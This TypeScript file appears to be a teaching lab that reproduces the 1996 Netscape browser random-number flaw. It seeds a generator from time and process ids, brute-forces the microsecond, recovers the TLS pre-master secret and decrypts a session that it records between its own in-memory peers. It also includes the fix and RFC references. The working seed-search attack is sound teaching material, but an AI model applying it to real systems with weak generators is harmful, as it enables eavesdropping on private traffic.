// Attack code, for teaching. It works on a session that this file records itself, between our own two peers in memory.
//
// Netscape 1.1 seeded its random numbers with the time of day, its process id and its parent's. Somebody who can
// list the processes of the machine knows two of the three, and the hello tells the second: what is left are a
// million microseconds.
import { hash } from 'node:crypto';
import { concatBytes } from '@noble/hashes/utils.js';
import type { Random } from '../../lib/key-exchange.js';
import { TLS10 } from '../../lib/registry.js';
import { computed } from '../views/values.js';
import { type Attempt, FLAW, type Lab } from './lab.js';
import { type Overheard, opens, overhear } from './parts/eavesdrop.js';
import { found } from './parts/found.js';
import { seededIdentity } from './parts/identity.js';
import { Line, type Traffic } from './parts/line.js';

/** All that the generator is seeded with. */
export interface NetscapeSeed {
  readonly seconds: number;
  readonly microseconds: number;
  readonly pid: number;
  readonly ppid: number;
}

/** Node's own MD5: the search asks for millions. */
const md5 = (bytes: Uint8Array) => hash('md5', bytes, 'buffer');

/** The two numbers that are hashed to the seed; `mklcpr` has no use but to look complicated. */
const mklcpr = (x: number) => (Math.imul(0xdeece66d, x) + 0x2bbb62dc) >>> 1;

/** RNG_CreateContext: the 16 bytes that all others come from. */
export function createContext({ seconds, microseconds, pid, ppid }: NetscapeSeed): Uint8Array {
  return md5(concatBytes(uint32(mklcpr(microseconds)), uint32(mklcpr(pid + seconds + (ppid << 12)))));
}

/** RNG_GenerateRandomBytes, again and again: MD5 of a number that goes up by one. */
export function netscapeRandom(seed: NetscapeSeed): Random {
  const state = createContext(seed);
  let pool: Uint8Array = new Uint8Array();
  return (length) => {
    while (pool.length < length) {
      pool = concatBytes(pool, md5(state));
      increment(state);
    }
    const bytes = pool.slice(0, length);
    pool = pool.slice(length);
    return bytes;
  };
}

/** What a client of that time draws first: the hello's random, which begins with the time, for all to see. */
const stamped = (random: Random, seconds: number): Random => {
  let hello = true;
  return (length) => {
    if (!hello) return random(length);
    hello = false;
    return concatBytes(uint32(seconds), random(length - 4));
  };
};

/** What the attacker knows of the processes: the ids that are possible. */
export interface Suspects {
  readonly pids: readonly number[];
  readonly ppid: number;
}

/**
 * The seed whose first bytes are those of the recorded hello, or undefined. A guess costs two MD5s, and the hello
 * itself says whether it is right.
 */
export function* findSeed(
  clientRandom: Uint8Array,
  { pids, ppid }: Suspects,
): Generator<string, NetscapeSeed | undefined> {
  const seconds = new DataView(clientRandom.buffer, clientRandom.byteOffset).getUint32(0);
  const wanted = Buffer.from(clientRandom.subarray(4, 20));
  const input = Buffer.alloc(8); // as in createContext, but made once
  for (const pid of pids) {
    input.writeUInt32BE(mklcpr(pid + seconds + (ppid << 12)), 4);
    for (let microseconds = 0; microseconds < 1_000_000; microseconds++) {
      if (microseconds % 2000 === 0)
        yield `process ${pid}: ${microseconds.toLocaleString('en-US')} of 1,000,000 microseconds`;
      input.writeUInt32BE(mklcpr(microseconds));
      if (wanted.equals(md5(md5(input)))) return { seconds, microseconds, pid, ppid };
    }
  }
  return undefined;
}

/** The pre-master secret of the client that was seeded so: its version, and what it drew after the hello. */
export function preMasterSecretOf(seed: NetscapeSeed, clientVersion: number): Uint8Array {
  const random = netscapeRandom(seed);
  random(28);
  return concatBytes(Uint8Array.of(clientVersion >> 8, clientVersion & 0xff), random(46));
}

const REQUEST = 'GET /account HTTP/1.0\r\nAuthorization: Basic YWxpY2U6d29uZGVybGFuZA==\r\n\r\n';
const REPLY = 'HTTP/1.0 200 OK\r\n\r\nBalance: 1,995.09\r\n';

export interface NetscapeData {
  readonly seed: NetscapeSeed | undefined;
  readonly preMasterSecret: Uint8Array | undefined;
  readonly traffic: Traffic | undefined;
}

export const netscapeSeed: Lab<NetscapeData> = {
  name: 'netscape-seed',
  title: "Netscape's three sources of randomness",
  year: 1996,
  paper:
    "Ian Goldberg and David Wagner, Randomness and the Netscape Browser, Dr. Dobb's Journal, January 1996",
  story:
    "The browser makes all its secrets from the time, its process id and its parent's. The attacker recorded a session, knows the process ids from a list of the machine's processes, and tries every microsecond of the second that the hello names.",
  recovers: 'the pre-master secret of a recorded session, and all that was said in it',
  fixes: ['unpredictable random bytes'],
  laws: [
    { rfc: 'RFC 4086 3.4', says: 'clocks and serial numbers do not make a key that nobody can guess' },
    {
      rfc: 'RFC 5246 D.1',
      says: 'TLS needs a cryptographically secure generator, seeded with enough entropy',
    },
  ],
  contract: [
    { check: 'honest', says: 'client and server finish their handshake', withFlaw: true, withFix: true },
    { check: 'seed', says: 'the search finds the seed', withFlaw: true, withFix: false },
    { check: 'traffic', says: 'the attacker reads both sides', withFlaw: true, withFix: false },
    {
      check: 'neighbour',
      says: 'the seed of one microsecond later opens nothing',
      withFlaw: true,
      withFix: true,
    },
  ],
  *attempt(variant, random) {
    const secret = secretSeed(random);
    const bytes = variant === FLAW ? netscapeRandom(secret) : random;
    const line = new Line({
      ...{ identity: seededIdentity(random), random, clientRandom: stamped(bytes, secret.seconds) },
      ...{ version: TLS10, suites: [0x0004] },
    });
    line.write('client', REQUEST);
    line.write('server', REPLY);
    const heard = overhear(line.wire);

    const seed = yield* findSeed(heard.session.clientRandom, { pids: [secret.pid], ppid: secret.ppid });
    const later = { ...secret, microseconds: secret.microseconds + 1 };
    const conclusion = conclude(heard, seed);
    return {
      ...conclusion,
      checks: {
        honest: line.secured,
        seed: seed !== undefined,
        traffic: conclusion.data.traffic?.client === REQUEST && conclusion.data.traffic.server === REPLY,
        neighbour: opens(heard, preMasterSecretOf(later, heard.clientVersion)) === undefined,
      },
    };
  },
};

/** A browser of September 1995. */
function secretSeed(random: Random): NetscapeSeed {
  const number = (below: number) => new DataView(random(4).buffer).getUint32(0) % below;
  return {
    seconds: Date.parse('1995-09-17T00:00:00Z') / 1000 + number(86_400),
    microseconds: number(1_000_000),
    pid: 300 + number(20_000),
    ppid: 1 + number(300),
  };
}

function conclude(heard: Overheard, seed: NetscapeSeed | undefined): Omit<Attempt<NetscapeData>, 'checks'> {
  const preMasterSecret = seed && preMasterSecretOf(seed, heard.clientVersion);
  const traffic = opens(heard, preMasterSecret);
  const data = { seed, preMasterSecret, traffic };
  if (!seed || !preMasterSecret || !traffic)
    return { outcome: 'No microsecond of that second gives the hello that was sent.', found: [], data };
  const time = `${seed.seconds}.${String(seed.microseconds).padStart(6, '0')}`;
  return {
    outcome: `The browser was seeded at ${time} as process ${seed.pid}, child of ${seed.ppid}: all its secrets follow.`,
    found: [
      computed('pre-master secret', preMasterSecret),
      found('request', traffic.client, REQUEST),
      found('reply', traffic.server, REPLY),
    ],
    data,
  };
}

const uint32 = (value: number) => Uint8Array.of(value >>> 24, value >>> 16, value >>> 8, value);

/** Adds one to a number of 16 bytes, little-endian as on the machines of the time. */
function increment(state: Uint8Array): void {
  for (let i = 0; i < state.length; i++) {
    state[i] = (state[i] as number) + 1;
    if (state[i] !== 0) return;
  }
}
